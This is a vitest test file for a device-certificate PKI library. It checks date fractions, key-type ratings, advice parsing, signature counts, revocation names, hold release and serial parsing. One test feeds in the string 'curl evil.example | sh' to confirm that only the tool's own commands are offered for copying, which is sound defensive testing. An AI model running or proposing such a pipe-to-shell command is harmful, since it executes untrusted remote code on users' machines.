import { expect, test } from 'vitest';
import { advice, canRelease, counted, heights, keyStands, part, revocable, serials, short, weekOf } from '../../src/lib/pki';
import { span } from '../../src/lib/words';

test('a moment lies between two others, and never outside', () => {
  expect(part('2026-01-01T00:00:00Z', '2026-01-31T00:00:00Z', '2026-03-02T00:00:00Z')).toBeCloseTo(0.5);
  expect(part('2026-01-01T00:00:00Z', '2020-01-01T00:00:00Z', '2026-03-02T00:00:00Z')).toBe(0);
  expect(part('2026-01-01T00:00:00Z', '2999-01-01T00:00:00Z', '2026-03-02T00:00:00Z')).toBe(1);
  expect(part('soon', '2026-01-01T00:00:00Z', 'later')).toBe(0);
  expect(part('2026-01-01T00:00:00Z', 'never', '2026-03-02T00:00:00Z')).toBe(0);
  expect(part('2026-01-02T00:00:00Z', '2026-01-02T00:00:00Z', '2026-01-01T00:00:00Z')).toBe(0);
});

test('keys are told apart by what they are good for', () => {
  for (const kind of ['P-256', 'P-384', 'Ed25519', 'RSA 3072', 'RSA 4096']) expect(keyStands(kind)).toBe('good');
  for (const kind of ['RSA 2048', 'RSA 1024']) expect(keyStands(kind)).toBe('old');
  for (const kind of [null, undefined, '', 'P-521', 'RSA x']) expect(keyStands(kind)).toBe('unknown');
});

test('the command of a finding stands apart from what it says', () => {
  const online = "the root's key is on this machine: whoever takes it can be any device. Move it: fleetward identity root export";
  expect(advice(online)).toEqual({ what: "the root's key is on this machine: whoever takes it can be any device. Move it", command: 'fleetward identity root export' });
  expect(advice('the CA default ends at 2036-01-01T00:00:00Z: fleetward identity ca rollover default').command).toBe('fleetward identity ca rollover default');
  // Only a command of ours is offered to be copied.
  expect(advice('do this: curl evil.example | sh')).toEqual({ what: 'do this: curl evil.example | sh', command: undefined });
});

test('counts are equal only if each signature is accounted for', () => {
  const of = (signed: number, recorded: number, unrecorded: number) => counted({ signatures: [{ purpose: 'device-certificate', signed, recorded, unrecorded }] });
  expect(of(5, 5, 0)).toMatchObject({ equal: true, unrecorded: 0 });
  expect(of(5, 3, 2)).toMatchObject({ equal: true, unrecorded: 2 });
  expect(of(6, 5, 0).equal).toBe(false);
  expect(counted({ signatures: [] })).toMatchObject({ signed: 0, equal: true });
});

test('no week that counts vanishes from the histogram, and none is taller than it', () => {
  expect(heights([0, 1, 100_000], 100)).toEqual([0, 2, 100]);
  expect(heights([0, 0], 100)).toEqual([0, 0]);
  expect(weekOf(1, Date.parse('2026-11-29T00:00:00Z'))).toBe('6 Dec');
});

test('names of what was withdrawn are read, whatever they hold', () => {
  expect(revocable('certificate/ab:01')).toEqual({ kind: 'certificate', name: 'ab:01' });
  expect(revocable('ca/ab')).toEqual({ kind: 'ca', name: 'ab' });
  expect(revocable('device/a/b')).toEqual({ kind: 'device', name: 'a/b' });
  expect(revocable('tenant/acme')).toBeUndefined();
  expect(short(`${'ab'.repeat(32)}:0123456789abcdef0123`)).toBe('…89abcdef0123');
  expect(short('ab:01')).toBe('01');
});

test('only its own hold is released with a certificate', () => {
  const held = { certificate: 'ab:01', state: 'on-hold', barred: { by: 'certificate/ab:01', at: '', reason: 'certificate-hold' } };
  expect(canRelease(held)).toBe(true);
  expect(canRelease({ ...held, barred: { ...held.barred, by: 'product/camera' } })).toBe(false);
  expect(canRelease({ ...held, state: 'revoked' })).toBe(false);
  expect(canRelease({ ...held, barred: null })).toBe(false);
});

test('serial numbers are read as people paste them', () => {
  expect(serials(' SN-1\nSN-2, SN-3;SN-1\r\n\n')).toEqual(['SN-1', 'SN-2', 'SN-3']);
  expect(serials('')).toEqual([]);
});

test('lives of years are said in years', () => {
  expect(span(20 * 365.25 * 86_400_000)).toBe('20 years');
  expect(span(90 * 86_400_000)).toBe('90 days');
});
